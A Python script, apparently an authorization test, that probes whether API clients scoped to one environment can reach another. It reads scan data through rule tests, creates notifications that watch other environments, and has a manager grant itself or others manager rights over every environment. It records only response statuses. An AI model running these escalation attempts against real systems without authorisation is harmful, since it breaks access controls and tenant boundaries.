#!/usr/bin/env python3
"""Tries, as API clients placed in groups over one environment (A), to reach another environment (B).

Standard library only. Prints one JSON object: for each attempt, the HTTP status and the error type of the answer.

  group_escalations.py --base-url URL --editor ID:SECRET --manager ID:SECRET
                       --environment-a ID --environment-b ID --scan-a ID --scan-b ID
                       --manager-group-everywhere ID --user ID
"""
import argparse
import base64
import json
import sys
import urllib.error
import urllib.parse
import urllib.request


def send(base_url, credentials, method, path, body=None):
    """The status of a request and its JSON answer (None when it has none)."""
    token = base64.b64encode(credentials.encode()).decode()
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(base_url + "/v0" + path, data=data, method=method)
    request.add_header("Authorization", "Basic " + token)
    request.add_header("Accept", "application/json")
    if data is not None:
        request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            status, text = response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        status, text = error.code, error.read().decode()
    try:
        return status, json.loads(text) if text else None
    except ValueError:
        return status, None


def call(base_url, credentials, method, path, body=None):
    status, answer = send(base_url, credentials, method, path, body)
    kind = answer.get("type") if isinstance(answer, dict) else None
    return {"status": status, "type": kind}


def environments_listed(base_url, credentials, path):
    """The environment ids (or "*") the items of a list name: notifications name theirs as a list of {id: name}
    pairs, groups as one {id: name} object."""
    _, answer = send(base_url, credentials, "GET", path + "?max_items=100")
    named = set()
    for item in answer["items"]:
        environments = item.get("environments")
        for pairs in environments if isinstance(environments, list) else [environments or {}]:
            named.update(pairs.keys())
    return sorted(named)


def main():
    parser = argparse.ArgumentParser()
    for name in ("base-url", "editor", "manager", "environment-a", "environment-b", "scan-a", "scan-b", "manager-group-everywhere", "user"):
        parser.add_argument("--" + name, required=True)
    args = parser.parse_args()
    base, editor, manager = args.base_url.rstrip("/"), args.editor, args.manager
    env_a, env_b = args.environment_a, args.environment_b
    manager_id = manager.split(":", 1)[0]
    watch = lambda environments: {"name": "mine", "events": ["drift", "compliance"], "environments": environments, "emails": ["me@example.com"]}
    rule_test = lambda scan: {"scan_id": scan, "rule_text": "true", "resource_type": "PROVA.S3.Bucket"}
    query = lambda scan: "/rules/test/input?" + urllib.parse.urlencode({"scan_id": scan, "resource_type": "PROVA.S3.Bucket"})

    results = {
        # Case 1: B's resource documents and per-resource rule results through the rule tests.
        "rule test input of A's scan": call(base, editor, "GET", query(args.scan_a)),
        "rule test input of B's scan": call(base, editor, "GET", query(args.scan_b)),
        "B's scan": call(base, editor, "GET", "/scans/" + args.scan_b),
        "rule test on B's scan": call(base, editor, "POST", "/rules/test", rule_test(args.scan_b)),
        # Case 2: B's events sent to the caller's recipients.
        "notification watching A": call(base, editor, "POST", "/notifications", watch([env_a])),
        "notification watching B": call(base, editor, "POST", "/notifications", watch([env_b])),
        "notification watching *": call(base, editor, "POST", "/notifications", watch(["*"])),
        # Case 3: a manager over A giving itself, or a user, builtin:MANAGER over every environment.
        "group MANAGER over * holding itself": call(
            base, manager, "POST", "/groups",
            {"name": "takeover", "policy": "builtin:MANAGER", "environment_ids": ["*"], "api_client_ids": [manager_id]},
        ),
        "B after that": call(base, manager, "GET", "/environments/" + env_b),
        "invite into MANAGER over *": call(
            base, manager, "POST", "/invites", {"email": "accomplice@example.com", "group_ids": [args.manager_group_everywhere]}
        ),
        "user into MANAGER over *": call(
            base, manager, "PATCH", "/users", {"user_ids": [args.user], "group_ids": [args.manager_group_everywhere]}
        ),
    }
    # Case 4: what lists of the organization's notifications and groups tell of other environments.
    for path in ("/notifications", "/groups"):
        results["environments named by " + path] = [
            "A" if named == env_a else "B" if named == env_b else named for named in environments_listed(base, editor, path)
        ]
    json.dump(results, sys.stdout, indent=2)
    print()


if __name__ == "__main__":
    main()
